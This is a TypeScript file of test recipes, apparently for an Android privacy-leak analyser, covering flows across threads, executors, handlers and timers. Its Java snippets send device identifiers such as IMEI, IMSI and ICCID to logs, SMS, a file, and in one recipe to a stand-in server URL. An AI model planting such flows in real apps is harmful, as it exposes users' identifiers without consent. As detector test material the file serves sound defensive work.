import { type FlowRecipe, leak, none } from '../recipe.ts';
import { androidId, create, iccid, imei, imeiOf, imsi, line1, main, sms } from '../snippets.ts';

const here = 'MainActivity.onCreate';

export const threading: readonly FlowRecipe[] = [
  {
    id: 'thread-task-progress',
    about: 'publishProgress to onProgressUpdate; the result is clean.',
    java: `class Fetch extends AsyncTask { final Context c; Fetch(Context x) { c = x; } protected Object doInBackground(Object[] p) { publishProgress(new Object[]{${imeiOf('c')}}); return "done"; } protected void onProgressUpdate(Object[] o) { Log.d("progress", (String) o[0]); } protected void onPostExecute(Object o) { Log.e("post", (String) o); } } ${main('new Fetch(this).execute(new Object[0]);')}`,
    flows: [leak('imei', 'Fetch.doInBackground', 'log.d', 'Fetch.onProgressUpdate')],
    noFlows: [none('the result is a constant', 'imei', 'Fetch.doInBackground', 'log.e', 'Fetch.onPostExecute')],
  },
  {
    id: 'thread-subclass',
    about: 'A child of Thread gets it by its constructor.',
    java: `class Go extends Thread { private final String v; Go(String s) { v = s; } public void run() { Log.d("go", v); } } ${main(`new Go(${imei}).start();`)}`,
    flows: [leak('imei', here, 'log.d', 'Go.run')],
  },
  {
    id: 'thread-not-started',
    about: 'The thread is made, named, and never started.',
    java: `class Go extends Thread { private final String v; Go(String s) { v = s; } public void run() { Log.d("go", v); } } ${main(`Thread t = new Go(${imei}); t.setName("idle");`)}`,
    flows: [],
    noFlows: [none('it never runs', 'imei', here, 'log.d', 'Go.run')],
  },
  {
    id: 'thread-runnable-lambda',
    about: 'A lambda for a Thread, which sends to a server.',
    java: `class MainActivity extends Activity { ${create} String id = ${androidId}; new Thread(() -> Net.get("https://n.example.cn/?i=" + id)).start(); } } class Net { static void get(String u) { try { new URL(u).openStream().close(); } catch (IOException e) { Log.d("net", "no"); } } }`,
    flows: [leak('android id', here, 'url', 'Net.get')],
  },
  {
    id: 'thread-executor',
    about: 'A pool of threads and a Runnable of the app.',
    java: `class Work implements Runnable { final String v; Work(String s) { v = s; } public void run() { ${sms('v')} } } ${main(`ExecutorService e = Executors.newFixedThreadPool(2); e.execute(new Work(${iccid})); e.shutdown();`)}`,
    flows: [leak('iccid', here, 'sms', 'Work.run')],
  },
  {
    id: 'thread-callable',
    about: 'A Callable gives it back through a Future.',
    java: `class Ask implements Callable { final Context c; Ask(Context x) { c = x; } public Object call() { return ${imeiOf('c')}; } } ${main('try { Future f = Executors.newCachedThreadPool().submit(new Ask(this)); Log.d("f", (String) f.get()); } catch (Exception e) { finish(); }')}`,
    flows: [leak('imei', 'Ask.call', 'log.d', 'MainActivity.onCreate')],
  },
  {
    id: 'thread-future-task',
    about: 'A FutureTask run by a thread.',
    java: main(
      `FutureTask t = new FutureTask(() -> ${imsi}); new Thread(t).start(); try { Log.d("t", (String) t.get()); } catch (Exception e) { finish(); }`,
    ),
    flows: [leak('imsi', 'MainActivity.lambda$onCreate$0', 'log.d', here)],
  },
  {
    id: 'thread-completable',
    about: 'supplyAsync, thenApply, thenAccept.',
    java: main(`CompletableFuture.supplyAsync(() -> ${imei}).thenApply(s -> "id " + s).thenAccept(s -> Log.d("c", (String) s));`),
    flows: [leak('imei', 'MainActivity.lambda$onCreate$0', 'log.d', 'MainActivity.lambda$onCreate$2')],
  },
  {
    id: 'thread-handler-what-decides',
    about: 'Two kinds of message: the one that is sent is the one that is printed in another way.',
    java: `class Desk extends Handler { public void handleMessage(Message m) { if (m.what == 1) Log.d("one", (String) m.obj); else Log.e("two", "two"); } }
${main(`Desk d = new Desk(); Message m = d.obtainMessage(1); m.obj = ${line1}; d.sendMessage(m); d.sendEmptyMessage(2);`)}`,
    flows: [leak('phone', here, 'log.d', 'Desk.handleMessage')],
    noFlows: [none('a constant', 'phone', here, 'log.e', 'Desk.handleMessage')],
  },
  {
    id: 'thread-handler-thread',
    about: 'A thread with a looper of its own; the runnable is posted with a delay.',
    java: main(
      `HandlerThread t = new HandlerThread("bg"); t.start(); final String v = ${imei}; new Handler(t.getLooper()).postDelayed(new Runnable() { public void run() { Log.i("bg", v); } }, 2000L);`,
    ),
    flows: [leak('imei', here, 'log.i', 'MainActivity$1.run')],
  },
  {
    id: 'thread-looper-by-hand',
    about: 'A thread that prepares its looper and keeps a handler in a field; another thread sends to it.',
    java: `class Pump extends Thread { Handler h; public void run() { Looper.prepare(); h = new PumpHandler(); Looper.loop(); } } class PumpHandler extends Handler { public void handleMessage(Message m) { ${sms('(String) m.obj')} } }
class MainActivity extends Activity { final Pump p = new Pump(); ${create} p.start(); } protected void onStop() { super.onStop(); p.h.sendMessage(p.h.obtainMessage(0, ${imsi})); } }`,
    flows: [leak('imsi', 'MainActivity.onStop', 'sms', 'PumpHandler.handleMessage')],
  },
  {
    id: 'thread-timer',
    about: 'A TimerTask reads each minute into a field, another one prints it.',
    java: `class MainActivity extends Activity { volatile String v = ""; ${create} Timer t = new Timer(); t.schedule(new TimerTask() { public void run() { v = ${imei}; } }, 0L, 60000L); t.schedule(new TimerTask() { public void run() { Log.d("v", v); } }, 5000L); } }`,
    flows: [leak('imei', 'MainActivity$1.run', 'log.d', 'MainActivity$2.run')],
  },
  {
    id: 'thread-blocking-queue',
    about: 'A producer and a consumer with a queue between them.',
    java: `class In implements Runnable { final LinkedBlockingQueue q; final Context c; In(LinkedBlockingQueue x, Context y) { q = x; c = y; } public void run() { q.put(${imeiOf('c')}); } } class Out implements Runnable { final LinkedBlockingQueue q; Out(LinkedBlockingQueue x) { q = x; } public void run() { Log.d("out", (String) q.take()); } }
${main('LinkedBlockingQueue q = new LinkedBlockingQueue(); new Thread(new Out(q)).start(); new Thread(new In(q, this)).start();')}`,
    flows: [leak('imei', 'In.run', 'log.d', 'Out.run')],
  },
  {
    id: 'thread-on-ui-thread',
    about: 'A background thread reads, and runOnUiThread prints.',
    java: `class MainActivity extends Activity { ${create} new Thread(new Runnable() { public void run() { final String s = ${iccid}; runOnUiThread(new Runnable() { public void run() { Log.d("ui", s); } }); } }).start(); } }`,
    flows: [leak('iccid', 'MainActivity$1.run', 'log.d', 'MainActivity$1$1.run')],
  },
  {
    id: 'thread-crash-handler',
    about: 'A handler for uncaught exceptions writes the number to a file with the message.',
    java: `class Crash implements Thread$UncaughtExceptionHandler { final String id; Crash(String s) { id = s; } public void uncaughtException(Thread t, Throwable e) { try { FileWriter w = new FileWriter("/sdcard/crash.txt"); w.write(id + e.getMessage()); w.close(); } catch (IOException x) { System.exit(1); } } } ${main(`Thread.setDefaultUncaughtExceptionHandler(new Crash(${imei}));`)}`,
    flows: [leak('imei', here, 'file writer', 'Crash.uncaughtException')],
  },
];
